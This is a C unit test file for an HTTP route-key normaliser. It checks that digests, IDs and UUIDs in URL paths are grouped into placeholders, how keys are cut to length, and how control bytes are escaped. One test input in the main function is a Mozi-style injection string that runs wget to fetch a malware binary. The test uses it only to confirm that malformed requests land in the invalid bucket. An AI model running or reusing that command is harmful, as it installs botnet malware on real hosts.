/*
 * test_route.c - endpoint keys: id, uuid and hex segments, digests inside
 * segments (":hash"), the raw path mode, and the "(invalid request)"
 * bucket for requests with no usable method or path.
 */
#include "check.h"
#include "route.h"

static const char *key(const char *method, const char *path, enum group_by g)
{
	static char buf[ROUTE_MAX + 1];
	request_t r = {0};
	r.method.p = method;
	r.method.n = strlen(method);
	r.path.p = path;
	r.path.n = strlen(path);
	size_t n = route_key(&r, g, buf, ROUTE_MAX);
	buf[n] = '\0';
	return buf;
}

static const char *norm(const char *path)
{
	static char buf[64];
	size_t n = route_normalise(path, strlen(path), buf, sizeof(buf) - 1);
	buf[n] = '\0';
	return buf;
}

/* path normalised into a buffer of cap bytes (at most 63) */
static const char *norm_cap(const char *path, size_t cap)
{
	static char buf[64];
	size_t n = route_normalise(path, strlen(path), buf, cap);
	buf[n] = '\0';
	return buf;
}

/* A token (letters and digits between - . _ ~ or the segment's ends) of 8
 * or more with a digit, all hex or of both cases, is ":hash". */
static void test_hash(void)
{
	/* the asset pipelines */
	CHECK_STR(norm("/assets/application-3f2ae1b4c5d6e7f8.js"),
	          "/assets/application-:hash.js"); /* Sprockets 3 (16) */
	CHECK_STR(norm("/assets/application-0123456789abcdef0123456789abcdef"
	               "0123456789abcdef0123456789abcdef.css"),
	          "/assets/application-:hash.css"); /* Sprockets 4 (64) */
	CHECK_STR(norm("/assets/application-5f8a2c3b.css"),
	          "/assets/application-:hash.css"); /* Propshaft */
	CHECK_STR(norm("/application-3f2ae1b4.css"), "/application-:hash.css");
	CHECK_STR(norm("/static/js/main.3f2ae1b4.chunk.js"),
	          "/static/js/main.:hash.chunk.js"); /* webpack */
	CHECK_STR(norm("/vendors~main.a1b2c3d4.js"), "/vendors~main.:hash.js");
	CHECK_STR(norm("/assets/index-BkX3a9Zq.js"),
	          "/assets/index-:hash.js"); /* Vite, esbuild */
	CHECK_STR(norm("/x/report_20240101.pdf"), "/x/report_:hash.pdf");
	/* words, versions, short numbers stay */
	CHECK_STR(norm("/files/report-2024.pdf"), "/files/report-2024.pdf");
	CHECK_STR(norm("/employees"), "/employees");
	CHECK_STR(norm("/img/deadbeefcafe.png"), "/img/deadbeefcafe.png");
	CHECK_STR(norm("/v2"), "/v2");
	CHECK_STR(norm("/logo.svg"), "/logo.svg");
	CHECK_STR(norm("/docs/Employee_Handbook.pdf"),
	          "/docs/Employee_Handbook.pdf");
	CHECK_STR(norm("/api/v2/employees-index.json"),
	          "/api/v2/employees-index.json");
	/* 7 is too short, 8 is enough */
	CHECK_STR(norm("/a-3f2ae1b.js"), "/a-3f2ae1b.js");
	CHECK_STR(norm("/a-3f2ae1b4.js"), "/a-:hash.js");
	CHECK_STR(norm("/a-BkX3a9Z.js"), "/a-BkX3a9Z.js");
	/* a digit is needed, and then all hex (either case) or both cases */
	CHECK_STR(norm("/a-BkXqa9Zq.js"), "/a-:hash.js");
	CHECK_STR(norm("/a-BkXqaZZq.js"), "/a-BkXqaZZq.js"); /* no digit */
	CHECK_STR(norm("/a-3F2AE1B4.js"), "/a-:hash.js");
	CHECK_STR(norm("/a-3f2AE1b4.js"), "/a-:hash.js");
	CHECK_STR(norm("/a-abc12345xyz.js"), "/a-abc12345xyz.js"); /* lower */
	CHECK_STR(norm("/a-ABC12345XYZ.js"), "/a-ABC12345XYZ.js"); /* upper */
	CHECK_STR(norm("/a-Abc12345xyz.js"), "/a-:hash.js");
	/* so a CamelCase word with a digit is a digest too (the rule cannot
	 * tell them apart) */
	CHECK_STR(norm("/docs/Handbook2024.pdf"), "/docs/:hash.pdf");
	/* a whole segment that is one token, and that the whole-segment
	 * rules leave alone (short hex, letters) */
	CHECK_STR(norm("/s/BkX3a9Zq"), "/s/:hash");
	CHECK_STR(norm("/c/3f2ae1b4"), "/c/:hash");
	CHECK_STR(norm("/c/3f2ae1b4/edit"), "/c/:hash/edit");
	/* the whole-segment rules come first */
	CHECK_STR(norm("/d/20240101"), "/d/:id");
	CHECK_STR(norm("/d/3f2ae1b4c5d6e7f8"), "/d/:hex");
	CHECK_STR(norm("/d/123e4567-e89b-12d3-a456-426614174000"), "/d/:uuid");
	/* hex and dashes that are not a UUID: token by token */
	CHECK_STR(norm("/d/3f2ae1b4-c5d6e7f8"), "/d/:hash-:hash");
	/* several tokens; delimiters at the ends, doubled */
	CHECK_STR(norm("/a1b2c3d4.e5f6a7b8.js"), "/:hash.:hash.js");
	CHECK_STR(norm("/-3f2ae1b4-"), "/-:hash-");
	CHECK_STR(norm("/~3f2ae1b4"), "/~:hash");
	CHECK_STR(norm("/x__3f2ae1b4..js"), "/x__:hash..js");
	CHECK_STR(norm("/3f2ae1b4_x/y"), "/:hash_x/y");
	/* a token touching any other byte stays, on either side */
	CHECK_STR(norm("/a%3f2ae1b4.js"), "/a%3f2ae1b4.js");
	CHECK_STR(norm("/a-3f2ae1b4%20.js"), "/a-3f2ae1b4%20.js");
	CHECK_STR(norm("/a+3f2ae1b4.js"), "/a+3f2ae1b4.js");
	CHECK_STR(norm("/v=3f2ae1b4"), "/v=3f2ae1b4");
	CHECK_STR(norm("/a,3f2ae1b4"), "/a,3f2ae1b4");
	CHECK_STR(norm("/a;3f2ae1b4"), "/a;3f2ae1b4");
	CHECK_STR(norm("/a:3f2ae1b4"), "/a:3f2ae1b4");
	CHECK_STR(norm("/a@3f2ae1b4"), "/a@3f2ae1b4");
	CHECK_STR(norm("/3f2ae1b4,x"), "/3f2ae1b4,x");
	CHECK_STR(norm("/a-BkX3a9Zq+1.js"), "/a-BkX3a9Zq+1.js");
	/* a UTF-8 byte too (octal: \303\251 is "é", then the digit 3) */
	CHECK_STR(norm("/caf\303\2513f2ae1b4"), "/caf\303\2513f2ae1b4");
	CHECK_STR(norm("/caf\xc3\xa9-3f2ae1b4"), "/caf\xc3\xa9-:hash");
	/* the other tokens of a segment are unaffected by one touching */
	CHECK_STR(norm("/a%20b-3f2ae1b4.js"), "/a%20b-:hash.js");
	/* through route_key, method first */
	CHECK_STR(key("GET", "/assets/application-5f8a2c3b.css", GROUP_ROUTE),
	          "GET /assets/application-:hash.css");
	CHECK_STR(key("GET", "/assets/application-5f8a2c3b.css", GROUP_PATH),
	          "GET /assets/application-5f8a2c3b.css");

	/* cut at cap: always the first cap bytes of the whole key */
	const char *p = "/assets/application-3f2ae1b4c5d6e7f8.js";
	const char *want = "/assets/application-:hash.js";
	for (size_t cap = 0; cap <= strlen(want) + 1; cap++) {
		size_t wn = strlen(want) < cap ? strlen(want) : cap;
		const char *got = norm_cap(p, cap);
		CHECK_MSG(strlen(got) == wn && memcmp(got, want, wn) == 0,
		          "cap %zu: got \"%s\"", cap, got);
	}
	p = "/x/a1b2c3d4.e5f6a7b8.BkX3a9Zq~y/22/a-Abc12345xyz";
	want = "/x/:hash.:hash.:hash~y/:id/a-:hash";
	for (size_t cap = 0; cap <= strlen(want) + 1; cap++) {
		size_t wn = strlen(want) < cap ? strlen(want) : cap;
		const char *got = norm_cap(p, cap);
		CHECK_MSG(strlen(got) == wn && memcmp(got, want, wn) == 0,
		          "cap %zu: got \"%s\"", cap, got);
	}
	/* the buffer past cap is never written */
	char small[16];
	memset(small, '#', sizeof(small));
	size_t n = route_normalise(p, strlen(p), small, 8);
	CHECK_INT(n, 8);
	CHECK(memcmp(small, "/x/:hash", 8) == 0);
	for (size_t i = 8; i < sizeof(small); i++)
		CHECK(small[i] == '#');
	/* route_key with a short buffer: cut inside the path */
	char kb[32];
	request_t r = {0};
	r.method = (slice_t){"GET", 3};
	r.path = (slice_t){p, strlen(p)};
	n = route_key(&r, GROUP_ROUTE, kb, sizeof(kb));
	CHECK_INT(n, 32);
	CHECK(memcmp(kb, "GET /x/:hash.:hash.:hash~y/:id/a", 32) == 0);
}

/* Keys never hold control bytes or bytes that are not UTF-8: such a byte
 * is the text \xHH, as nginx writes it, and a cut never splits one. */
static void test_canonical(void)
{
	CHECK_STR(key("GET", "/a\x1b[1m\x07", GROUP_PATH),
	          "GET /a\\x1B[1m\\x07");
	CHECK_STR(key("GET", "/p\xff", GROUP_PATH), "GET /p\\xFF");
	CHECK_STR(key("GET", "/p\\xFF", GROUP_PATH), "GET /p\\xFF");
	CHECK_STR(key("GET", "/caf\xc3\xa9", GROUP_PATH), "GET /caf\xc3\xa9");
	CHECK_STR(key("GET", "/s\xed\xa0\x80", GROUP_PATH),
	          "GET /s\\xED\\xA0\\x80"); /* a surrogate */
	CHECK_STR(key("GET", "/o\xc0\xaf/1", GROUP_ROUTE),
	          "GET /o\\xC0\\xAF/:id"); /* an overlong '/' */
	/* a long key is cut between characters, never inside \xHH or é */
	char path[ROUTE_MAX * 2];
	memset(path, 'a', sizeof(path));
	path[0] = '/';
	for (size_t i = 1; i + 1 < sizeof(path); i += 7)
		path[i] = (char)0xff;
	path[sizeof(path) - 1] = '\0';
	const char *k = key("GET", path, GROUP_PATH);
	size_t n = strlen(k);
	CHECK(n <= ROUTE_MAX && n > ROUTE_MAX - 4);
	CHECK(k[n - 1] == 'a' || (n >= 4 && k[n - 4] == '\\'));
	for (size_t i = 0; i < n; i++)
		CHECK((unsigned char)k[i] >= 0x20 &&
		      (unsigned char)k[i] < 0x7f);
}

int main(void)
{
	test_canonical();
	test_hash();
	CHECK_STR(norm("/api/v1/users/42"), "/api/v1/users/:id");
	CHECK_STR(norm("/users/42/posts/7/"), "/users/:id/posts/:id/");
	CHECK_STR(norm("/runs/123e4567-e89b-12d3-a456-426614174000/x"),
	          "/runs/:uuid/x");
	CHECK_STR(norm("/runs/123E4567-E89B-12D3-A456-426614174000"),
	          "/runs/:uuid");
	/* not a UUID (35 bytes): its long tokens are digests */
	CHECK_STR(norm("/runs/123e4567-e89b-12d3-a456-42661417400"),
	          "/runs/:hash-e89b-12d3-a456-:hash");
	CHECK_STR(norm("/runs/123e-e89b-12d3-a456-4266"),
	          "/runs/123e-e89b-12d3-a456-4266");
	CHECK_STR(norm("/blob/0123456789abcdef"), "/blob/:hex");
	/* 15 hex digits: not ":hex", but one token that is a digest */
	CHECK_STR(norm("/blob/0123456789abcde"), "/blob/:hash");
	CHECK_STR(norm("/assets/application-0123456789abcdef0123.js"),
	          "/assets/application-:hash.js");
	CHECK_STR(norm("/v2/users"), "/v2/users");
	CHECK_STR(norm("/"), "/");
	CHECK_STR(norm("//a//1"), "//a//:id");
	CHECK_STR(norm("/deadbeef"), "/deadbeef"); /* short hex is a word */
	/* cut at the buffer, never overrun */
	CHECK_INT(
	    strlen(norm("/zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"
	                "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz")),
	    63);
	CHECK_STR(norm("/aaaaaaaaaaaaaaaaaaaa"), "/:hex"); /* 20 x 'a' is hex */

	CHECK_STR(key("GET", "/users/42", GROUP_ROUTE), "GET /users/:id");
	CHECK_STR(key("GET", "/users/42", GROUP_PATH), "GET /users/42");
	CHECK_STR(key("OPTIONS", "*", GROUP_ROUTE), "OPTIONS *");
	CHECK_STR(key("PATCHp", "/x", GROUP_ROUTE), "PATCHp /x");
	CHECK_STR(key("", "", GROUP_ROUTE), ROUTE_INVALID);
	CHECK_STR(key("\\x16\\x03\\x01", "", GROUP_ROUTE), ROUTE_INVALID);
	CHECK_STR(key("HELP", "", GROUP_ROUTE), ROUTE_INVALID);
	CHECK_STR(key("27;wget%20http://%s:%d/Mozi.m", "x", GROUP_ROUTE),
	          ROUTE_INVALID);
	CHECK_STR(key("GET", "x.php", GROUP_ROUTE), ROUTE_INVALID);
	/* the memo gives what route_key gives, hit or miss, and keeps the
	 * modes apart */
	route_cache_t *c = route_cache_new();
	const char *paths[] = {
	    "/users/42", "/users/43",
	    "/users/42", "/x/123e4567-e89b-12d3-a456-426614174000",
	    "",          "/users/42"};
	for (int round = 0; round < 2; round++) {
		for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
			for (int g = GROUP_ROUTE; g <= GROUP_PATH; g++) {
				char buf[ROUTE_MAX], want[ROUTE_MAX];
				const char *k;
				uint64_t h;
				request_t r = {0};
				r.method = (slice_t){"GET", 3};
				r.path = (slice_t){paths[i], strlen(paths[i])};
				size_t n = route_key_cached(
				    c, &r, (enum group_by)g, buf, &k, &h);
				size_t wn = route_key(&r, (enum group_by)g,
				                      want, ROUTE_MAX);
				CHECK(n == wn && memcmp(k, want, n) == 0);
				CHECK(h == hash_bytes(want, wn));
			}
		}
	}
	/* method and path as one run of a line ("GET /x": one hash and one
	 * compare), or apart with another byte between: the same keys */
	const char *lines[] = {"GET /users/42",  "PUT /users/42",
	                       "GET\t/users/42", "GET /users/42x",
	                       "GET /users/4",   "GET /users/42"};
	for (int round = 0; round < 2; round++) {
		for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
			for (int g = GROUP_ROUTE; g <= GROUP_PATH; g++) {
				char buf[ROUTE_MAX], want[ROUTE_MAX];
				const char *k, *l = lines[i];
				uint64_t h;
				request_t r = {0};
				r.method = (slice_t){l, 3};
				r.path = (slice_t){l + 4, strlen(l) - 4};
				size_t n = route_key_cached(
				    c, &r, (enum group_by)g, buf, &k, &h);
				size_t wn = route_key(&r, (enum group_by)g,
				                      want, ROUTE_MAX);
				CHECK(n == wn && memcmp(k, want, n) == 0);
				CHECK(h == hash_bytes(want, wn));
			}
		}
	}
	route_cache_free(c);
	return CHECK_DONE("test_route");
}
